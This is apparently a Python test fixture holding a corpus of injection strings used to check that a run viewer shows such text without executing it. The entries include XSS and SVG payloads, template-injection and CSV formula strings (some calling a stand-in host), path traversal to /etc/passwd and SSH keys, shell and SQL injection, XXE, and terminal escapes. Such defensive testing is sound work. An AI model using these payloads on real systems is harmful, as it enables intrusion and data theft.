"""Texts that try to be more than text, by kind and name; each must stay what it is, everywhere.

Where one of them is run as a script, it sets `window.canary`, opens a dialog, or asks for a file.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from itertools import cycle, islice

from tokenizers import pre_tokenizers
from transformers.convert_slow_tokenizer import bytes_to_unicode

from engine.run import Run
from tests.unit.paper import make_run

SET = "window.canary=1"
ESC, BELL = "\x1b", "\x07"

CORPUS: dict[str, dict[str, str]] = {
    "html": {
        "image": f"<img src=x onerror={SET}>",
        "script": f"<script>{SET}</script>",
        "script-elsewhere": "<script src=//canary.invalid/x.js></script>",
        "iframe": f'<iframe srcdoc="<script>parent.{SET}</script>"></iframe>',
        "link": f'<a href="javascript:{SET}" autofocus onfocus={SET}>a link</a>',
        "bold": "<b>bold</b> <i>it</i> <u>under</u> 1 < 2 & 3 > 2 &lt;b&gt; &#60;b&#62;",
        "form": "<form action=//canary.invalid><button autofocus>go</button></form>",
        "refresh": "<meta http-equiv=refresh content='0;url=//canary.invalid/'>",
        "base": "<base href=//canary.invalid/>",
        "style": "<style>@import '//canary.invalid/x.css'; body{display:none}</style>",
        "object": "<object data=//canary.invalid/x></object><embed src=//canary.invalid/y>",
        "details": f"<details open ontoggle={SET}><summary>x</summary></details>",
        "angle-brackets": "use <div>, List<int>, <think>x</think>, 1 < 2 & 3 > 2, **b**, $x$",
    },
    "broken html": {
        "end-of-attribute": f"\"><img src=x onerror={SET}> '><svg onload={SET}>",
        "handlers-without-element": f'" onmouseover={SET} autofocus onfocus={SET} x="',
        "unclosed-comment": "<!-- the rest is gone",
        "unclosed-element": "<div class=bs-stage><textarea><title><plaintext>",
        "unclosed-attribute": "<img src='x",
        "end-of-table": "</td></tr></table></div></body></html><h1>taken",
        "end-of-script": f"</script><script>{SET}</script>",
        "script-in-comment": f"<!--<script>{SET}--><script></script>",
        "cdata": f"]]><![CDATA[<script>{SET}</script>]]>",
        "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "nested": f"<scr<script>ipt>{SET}</scr</script>ipt>",
        "null-in-name": f"<img\0src=x\0onerror={SET}>",
        "full-width": f"\uff1cscript\uff1e{SET}\uff1c/script\uff1e",
    },
    "svg": {
        "onload": f"<svg onload={SET}><rect width=9/></svg>",
        "script": f"</text></svg><svg><script>{SET}</script></svg>",
        "foreign": f"<svg><foreignObject><body onload={SET}></foreignObject></svg>",
        "use": "<svg><use href='//canary.invalid/x.svg#a'/></svg>",
        "animate": f"<svg><a><animate attributeName=href values=javascript:{SET} /></a></svg>",
        "image": "<svg><image href='//canary.invalid/x.png'/></svg>",
        "math": f"<math><mi xlink:href='javascript:{SET}'>x</mi></math>",
    },
    "javascript": {
        "string-end": f"';{SET};'",
        "template-literal": f"`;{SET};`",
        "line-separator": f"a\u2028{SET}\u2029//",
        "json-end": f'"}}]}};{SET};//',
        "replacement": "$& $` $' $$ $1 $<x> \\0 \\g<0>",
        "prototype": '{"__proto__": {"canary": 1}, "constructor": {"prototype": {"canary": 1}}}',
        "proto": "__proto__",
        "constructor": "constructor",
        "to-string": "toString",
        "escapes": "\\u003cscript\\u003e \\x3cb\\x3e \\n \\\\ \\",
    },
    "template": {
        "literal": f"${{{SET}}} ${{value}} ${{props.value.key}}",
        "mustache": f"{{{{{SET}}}}} {{{{value}}}} {{{{{{raw}}}}}}",
        "handlebars": "{{#with this}}{{lookup constructor 'name'}}{{/with}} {{> x}}",
        "jinja": "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
        "angular": f"{{{{constructor.constructor('{SET}')()}}}}",
        "vue": f"{{{{_c.constructor('{SET}')()}}}} v-html=x @click=x",
        "svelte": f"{{@html '<img src=x onerror={SET}>'}} {{#if 1}}",
        "erb": "<%= 7 * 7 %> <% system('id') %> #{7*7}",
        "f-string": "{run.model.__class__.__init__.__globals__} {0} {} {self}",
        "percent": "%s %n %d %(name)s %%",
        "string-template": "$stage $props ${style} $$ $",
        "gradio": "@children {{value}} ${fn()}",
    },
    "plotly": {
        "pseudo-html": "<b>bold</b><br>line<sub>2</sub><i>it</i>",
        "link": f"<a href='javascript:{SET}' target='_top'>click</a>",
        "link-elsewhere": '<a href="//canary.invalid/">click</a>',
        "hovertemplate": "%{x} %{customdata[0]} %{z:.2f} %{xother}<extra>extra</extra>",
        "extra": "<extra></extra>%{text}",
        "texttemplate": "%{label}<span style='color:red'>red</span>",
        "mathjax": "$\\href{javascript:alert(1)}{x}$ \\(x\\)",
    },
    "csv": {
        "sum": "=1+1",
        "plus": "+1+1",
        "minus": "-1+1",
        "at": "@SUM(1+1)",
        "dde": "=cmd|' /C calc'!A0",
        "hyperlink": '=HYPERLINK("//canary.invalid/?"&A1,"click")',
        "webservice": '=WEBSERVICE("//canary.invalid/"&A1)',
        "tab": "\t=1+1",
        "carriage-return": "\r=1+1",
        "line-feed": "\n=1+1",
        "full-width": "\uff1d1\uff0b1",
        "apostrophe": "'=1+1",
        "next-cell": 'x",=1+1,"',
        "next-cell-elsewhere": "x;=cmd|' /C calc'!A0;y",
        "next-line": "x\r\n=1+1,+1+1\r\n",
        "next-tab": "x\t@SUM(1)\ty",
        "quotes": '"="&"1"',
    },
    "paths": {
        "up": "../../../../etc/passwd",
        "up-windows": "..\\..\\windows\\win.ini",
        "absolute": "/etc/passwd",
        "drive": 'C:\\x:y|z<>?*"',
        "device": "CON",
        "device-with-suffix": "nul.txt.",
        "hidden": ".htaccess",
        "dots": "....//....//",
        "null": "run.json\0.exe",
        "encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "option": "-rf --out=/tmp/x",
        "home": "~/.ssh/id_rsa $HOME `id` $(id) ;id|id",
        "share": "\\\\canary.invalid\\share\\x",
        "file-url": "file:///etc/passwd",
        "right-to-left": "run\u202enosj.exe",
        "long": "n" * 300,
    },
    "terminal": {
        "colour": f"{ESC}[31mred{ESC}[0m",
        "clear": f"{ESC}[2J{ESC}[H taken",
        "title": f"{ESC}]0;taken{BELL} title",
        "link": f"{ESC}]8;;http://canary.invalid/{ESC}\\click{ESC}]8;;{ESC}\\",
        "clipboard": f"{ESC}]52;c;Y2FuYXJ5{BELL} clipboard",
        "report": f"{ESC}[6n{ESC}[c{ESC}P$q q{ESC}\\ asks",
        "eight-bit": "\u009b2J\u009d0;taken\u009c csi",
        "carriage-return": "harmless\rtaken   ",
        "backspace": "abc\b\b\bxyz\x7f",
        "bell": f"ring{BELL}{BELL}",
        "controls": "a\x01\x0e\x0f\x16\x1a\x1c\x0b\x0cb",
        "alternate-screen": f"{ESC}[?1049h{ESC}c reset",
    },
    "unicode": {
        "override": "abc\u202edef\u202d ghi",
        "isolate": "abc\u2066def\u2067ghi",
        "arabic": "\u0645\u0631\u062d\u0628\u0627 <b>\u0639\u0627\u0644\u0645</b>",
        "zero-width": "ze\u200bro\u200d\u2060\ufeff width\u00ad",
        "combining": "Z" + "\u0300\u0316\u0489" * 40,
        "lone-surrogate": "half \ud800 a pair \udc00",
        "non-character": "\uffff \ufffe \ufdd0 \U0010ffff",
        "next-line": "a\u0085b\u2028c\u2029d",
        "private": "\ue000 \U000f0000",
        "tags": "a\U000e0041\U000e0042\U000e007f tag",
        "byte-order-mark": "\ufeffstart",
        "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea \u2764\ufe0f",
    },
    "markdown": {
        "image": "![x](//canary.invalid/x.png)",
        "link": f"[click](javascript:{SET})",
        "autolink": "<http://canary.invalid/> http://canary.invalid/",
        "heading": "# heading\n\n---\n> quote\n- list",
        "fence": f"```html\n<img src=x onerror={SET}>\n```",
        "table": "| a | b |\n|---|---|\n| <b>1</b> | 2 |",
        "math": "$$x^2$$ \\[x\\] $\\require{x}$",
    },
    "css and urls": {
        "import": "@import url(//canary.invalid/x.css);",
        "expression": f"x:expression({SET})",
        "background": "}} body{background:url(//canary.invalid/x)} {{",
        "end-of-style": "</style><style>*{display:none}</style>",
        "javascript-url": f"javascript:{SET}",
        "data-url": f"data:text/html,<script>{SET}</script>",
        "vbscript": "vbscript:msgbox(1)",
        "protocol-relative": "//canary.invalid/x",
        "blob": "blob:null/x",
    },
    "lines": {
        "log-line": "x\r\n2026-01-01 00:00:00 batchscope.host: loaded model",
        "log-line-feed": "x\nERROR root: taken",
        "log-return": "x\rERROR root: taken",
        "header": "x\r\nSet-Cookie: a=b\r\n\r\n<script>",
        "event-stream": 'x\n\ndata: {"msg": "close_stream"}\n\n',
        "log-format": "%s %(message)s {name} \x00",
        "sql": "'; DROP TABLE runs; --",
        "shell": "$(touch /tmp/canary); `touch /tmp/canary`",
        "xml": "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'b'>]><a>&b;</a>",
    },
}

TEXTS = tuple(text for kind in CORPUS.values() for text in kind.values())
IDS = tuple(f"{kind}: {name}" for kind, texts in CORPUS.items() for name in texts)

NAME_CHARACTERS = 200
"""As many as a saved run may have in the name of a model."""


def is_unicode(text: str) -> bool:
    """Whether a text has no half of a surrogate pair, so that a file or a request can hold it."""
    return not any("\ud800" <= character <= "\udfff" for character in text)


def bytes_of(text: str) -> bytes:
    """The text in UTF-8, half of a surrogate pair as three bytes that are none."""
    return text.encode("utf-8", "surrogatepass")


def emitted(text: str) -> str:
    """What a model that emits the bytes of a text has said."""
    return bytes_of(text).decode("utf-8", "replace")


def byte_ids(text: str) -> list[int]:
    """The ids of `tests.tiny.byte_tokenizer` for the bytes of a text, Unicode or not."""
    alphabet = sorted(pre_tokenizers.ByteLevel.alphabet())
    letters = bytes_to_unicode()
    return [alphabet.index(letters[byte]) for byte in bytes_of(text)]


def saved_run(texts: Sequence[str]) -> Run:
    """A record with a row for each text, in which every string is one of them: as a file would
    bring it."""
    run = make_run([[(2, 3)] * len(texts)])
    names = islice(cycle(text[:NAME_CHARACTERS] for text in texts), 8)
    fields = ("name", "revision", "dtype", "attention", "device", "torch", "transformers")
    model = replace(run.model, **dict(zip((*fields, "kv_dtype"), names, strict=True)))
    stop = tuple(text[:100] for text in texts[:8])
    return replace(
        run,
        model=model,
        requests=tuple(
            replace(request, prompt=text, stop=stop)
            for request, text in zip(run.requests, texts, strict=True)
        ),
        steps=(replace(run.steps[0], pieces=tuple(texts)), *run.steps[1:]),
        texts=tuple(text + "AA" for text in texts),
        started_at="2025-01-01<00:00:00",
        status="error",
        error=f"{texts[0]} and {texts[-1]}",
    )
